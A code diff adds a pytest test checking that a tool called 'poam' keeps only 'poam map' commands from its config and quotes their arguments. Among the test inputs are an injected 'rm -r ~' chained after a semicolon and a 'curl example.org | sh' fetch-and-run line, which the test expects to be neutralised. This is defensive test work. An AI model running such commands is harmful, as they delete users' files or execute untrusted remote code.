@@ -115,3 +115,16 @@ def test_only_a_map_of_a_log_can_be_edited(tmp_path):
     with pytest.raises(InputError, match="expected the log of `poam map`"):
         Edits(write_run(tmp_path / "lake"))
     assert Page().editing is None
+
+
+def test_a_recorded_command_is_of_poam_map_and_quoted(run):
+    config = {"log": "/no/such/log.csv"}
+    for command, shown in {
+        "poam map a.csv --output 'my lake'": "poam map a.csv --output 'my lake'",
+        "poam map a.csv; rm -r ~": "poam map 'a.csv;' rm -r '~'",
+        "curl example.org | sh": "poam map",
+        "poam map 'a": "poam map",
+    }.items():
+        files.write_config(run / "config.yaml", config | {"command": command})
+        assert Edits(run).command == shown
+    assert Edits(run).path == run / "edits.csv"  # the log is gone
